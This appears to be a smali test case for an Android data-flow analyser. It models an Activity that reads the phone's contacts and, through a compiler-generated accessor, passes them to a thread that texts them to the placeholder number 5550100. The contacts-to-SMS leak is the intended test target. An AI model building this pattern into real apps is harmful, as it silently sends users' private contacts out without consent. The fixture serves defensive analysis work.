# By hand: javac 11 lets an inner class read a private field of its nest; D8 writes the accessor
# -$$Nest$fgetnames for it.
#
#   public final class Main extends Activity {
#       private String names;
#       protected void onCreate(Bundle state) {
#           super.onCreate(state);
#           Cursor rows = getContentResolver().query(Phone.CONTENT_URI, null, null, null, null);
#           names = rows.getString(0);
#           new Thread(new Upload()).start();
#       }
#       private final class Upload implements Runnable {
#           public void run() { SmsManager.getDefault().sendTextMessage("5550100", null, names, null, null); }
#       }
#   }
.class public final Lcases/flow_nest_accessor/Main;
.super Landroid/app/Activity;

.field private names:Ljava/lang/String;

.method static bridge synthetic -$$Nest$fgetnames(Lcases/flow_nest_accessor/Main;)Ljava/lang/String;
    .registers 1
    iget-object p0, p0, Lcases/flow_nest_accessor/Main;->names:Ljava/lang/String;
    return-object p0
.end method

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 8
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-virtual {p0}, Lcases/flow_nest_accessor/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v4, 0x0
    const/4 v5, 0x0
    const/4 v2, 0x0
    const/4 v3, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object p1
    const/4 v0, 0x0
    invoke-interface {p1, v0}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object p1
    iput-object p1, p0, Lcases/flow_nest_accessor/Main;->names:Ljava/lang/String;
    new-instance p1, Ljava/lang/Thread;
    new-instance v0, Lcases/flow_nest_accessor/Main$Upload;
    const/4 v1, 0x0
    invoke-direct {v0, p0, v1}, Lcases/flow_nest_accessor/Main$Upload;-><init>(Lcases/flow_nest_accessor/Main;Lcases/flow_nest_accessor/Main-IA;)V
    invoke-direct {p1, v0}, Ljava/lang/Thread;-><init>(Ljava/lang/Runnable;)V
    invoke-virtual {p1}, Ljava/lang/Thread;->start()V
    return-void
.end method
